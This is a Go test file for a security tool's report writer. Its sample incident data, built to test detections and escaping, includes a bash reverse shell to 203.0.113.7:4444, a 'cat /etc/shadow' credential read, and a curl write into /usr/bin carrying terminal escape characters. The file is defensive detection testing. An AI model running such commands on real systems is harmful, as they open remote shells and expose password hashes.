package report

import (
	"bytes"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/retrace-dev/retrace/internal/testutil"
)

// checkGolden compares got with testdata/name, or rewrites the file when the
// test runs with -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	want := testutil.Golden(t, filepath.Join("testdata", name), got)
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (-want +got):\n%s", name, cmp.Diff(string(want), string(got)))
	}
}

// sampleReport is a small report exercising containers, ancestry, files,
// network objects, missing values and hostile strings.
func sampleReport() *Report {
	base := time.Date(2026, 11, 20, 9, 14, 3, 120456789, time.UTC)
	bash := Process{Pid: 4100, Name: "bash", Exe: "/usr/bin/bash", Cmdline: "bash -i", User: "root", Tty: 34816}
	systemd := Process{Pid: 1, Name: "systemd", Exe: "/usr/lib/systemd/systemd", Cmdline: "systemd --system", User: "root"}
	web := Container{ID: "3ad7b2c1e9f0", Name: "web-frontend", Image: "docker.io/library/nginx:1.27"}
	return &Report{
		Title: "retrace replay: incident-42",
		Captures: []CaptureInfo{{
			File: "incident-42.scap.zst", Hostname: "web-01",
			Start: base.Add(-2 * time.Second), End: base.Add(9 * time.Second),
			Events: 184233, Drops: 0,
		}},
		RuleFiles: []string{"falco_rules.yaml"},
		Detections: []Detection{
			{
				Time: base, Rule: "Terminal shell in container", Priority: "Notice", Source: "syscall",
				Tags:     []string{"container", "shell", "mitre_execution"},
				Output:   "A shell was spawned in a container with an attached terminal (user=root container=web-frontend shell=bash parent=runc cmdline=bash -i terminal=34816)",
				Hostname: "web-01", Capture: "incident-42.scap.zst", EventNum: 10421, EventType: "execve",
				Container: web,
				Process:   bash,
				Ancestry: []Process{
					{Pid: 4090, Name: "runc", Exe: "/usr/bin/runc", Cmdline: "runc exec -t 3ad7b2c1e9f0 bash -i", User: "root"},
					{Pid: 901, Name: "containerd-shim", Exe: "/usr/bin/containerd-shim-runc-v2", Cmdline: "containerd-shim-runc-v2 -namespace moby", User: "root"},
					systemd,
				},
				OutputFields: map[string]any{
					"user.name": "root", "container.name": "web-frontend", "proc.name": "bash",
					"proc.pname": "runc", "proc.cmdline": "bash -i", "proc.tty": uint64(34816),
				},
			},
			{
				Time: base.Add(1500 * time.Millisecond), Rule: "Read sensitive file untrusted", Priority: "Warning", Source: "syscall",
				Tags:     []string{"filesystem", "mitre_credential_access"},
				Output:   "Sensitive file opened for reading by non-trusted program (user=root program=cat command=cat /etc/shadow file=/etc/shadow)",
				Hostname: "web-01", Capture: "incident-42.scap.zst", EventNum: 10907, EventType: "openat",
				Container: web,
				Process:   Process{Pid: 4133, Name: "cat", Exe: "/usr/bin/cat", Cmdline: "cat /etc/shadow", User: "root", Tty: 34816},
				Ancestry:  []Process{bash, {Pid: 4090, Name: "runc", Cmdline: "runc exec -t 3ad7b2c1e9f0 bash -i", User: "root"}},
				Files:     []string{"/etc/shadow"},
				OutputFields: map[string]any{
					"user.name": "root", "proc.name": "cat", "proc.cmdline": "cat /etc/shadow", "fd.name": "/etc/shadow",
				},
			},
			{
				Time: base.Add(4*time.Second + 250*time.Microsecond), Rule: "Outbound connection from shell", Priority: "Critical", Source: "syscall",
				Tags:     []string{"network", "mitre_command_and_control"},
				Output:   "Reverse shell: bash connected out (command=bash -c 'sh -i >& /dev/tcp/203.0.113.7/4444 0>&1' connection=10.0.0.5:51514->203.0.113.7:4444 cport=<NA>)",
				Hostname: "web-01", Capture: "incident-42.scap.zst", EventNum: 12650, EventType: "connect",
				Process:  Process{Pid: 5012, Name: "bash", Exe: "/usr/bin/bash", Cmdline: "bash -c 'sh -i >& /dev/tcp/203.0.113.7/4444 0>&1'", User: "www-data"},
				Ancestry: []Process{{Pid: 4980, Name: "php-fpm", Cmdline: "php-fpm: pool www", User: "www-data"}, systemd},
				Network:  []string{"tcp 10.0.0.5:51514->203.0.113.7:4444"},
				OutputFields: map[string]any{
					"proc.cmdline": "bash -c 'sh -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
					"fd.name":      "10.0.0.5:51514->203.0.113.7:4444", "fd.cport": nil,
				},
			},
			{
				Time: base.Add(7*time.Second + 3), Rule: "Write below binary dir", Priority: "Error", Source: "syscall",
				Tags:     []string{"filesystem"},
				Output:   "File below a known binary directory opened for writing (user=root command=\"curl\" -o /usr/bin/\x1b[31mkit\tx\n file=/usr/bin/\xffkit)",
				Hostname: "web-01", Capture: "incident-42.scap.zst", EventNum: 15002, EventType: "openat",
				Process:  Process{Pid: 5120, Name: "curl", Cmdline: "\"curl\" -o /usr/bin/\x1b[31mkit\tx", User: "root"},
				Ancestry: []Process{{Pid: 5012, Name: "bash", User: "www-data"}, {Pid: 4980, Name: "php-fpm", User: "www-data"}, systemd},
				Files:    []string{"/usr/bin/\xffkit"},
				OutputFields: map[string]any{
					"proc.cmdline": "\"curl\" -o /usr/bin/\x1b[31mkit\tx\n", "fd.name": "/usr/bin/\xffkit", "evt.num": uint64(15002), "evt.failed": false,
				},
			},
		},
	}
}

// TestViewLineEncoder checks that the lines of a view's findings, one at
// a time, are what Write writes for the whole report of that view.
func TestViewLineEncoder(t *testing.T) {
	shells := shellsReport()
	commands := sampleReport()
	commands.View = "commands"
	for _, tc := range []struct {
		name   string
		report *Report
		format Format
		opts   Options
	}{
		{"text", commands, FormatText, Options{}},
		{"text in a zone", commands, FormatText, Options{TZ: time.FixedZone("X", 3600)}},
		{"json", commands, FormatJSON, Options{JSON: JSONKeys{Message: true}}},
		{"timesketch", commands, FormatTimesketch, Options{}},
		{"json with children", shells, FormatJSON, Options{}},
		{"timesketch with children", shells, FormatTimesketch, Options{}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var whole bytes.Buffer
			if err := Write(&whole, tc.report, tc.format, tc.opts); err != nil {
				t.Fatal(err)
			}
			enc := ViewLineEncoder(tc.format, tc.opts, tc.report.View)
			var lines []byte
			for i := range tc.report.Detections {
				lines = append(enc(lines, &tc.report.Detections[i]), '\n')
			}
			if diff := cmp.Diff(whole.String(), string(lines)); diff != "" {
				t.Errorf("lines differ from Write (-write +lines):\n%s", diff)
			}
		})
	}
	for _, f := range []Format{FormatTable, FormatHTML} {
		if ViewLineEncoder(f, Options{}, "commands") != nil {
			t.Errorf("format %s has a line encoder; it is written as a whole", f)
		}
	}
}
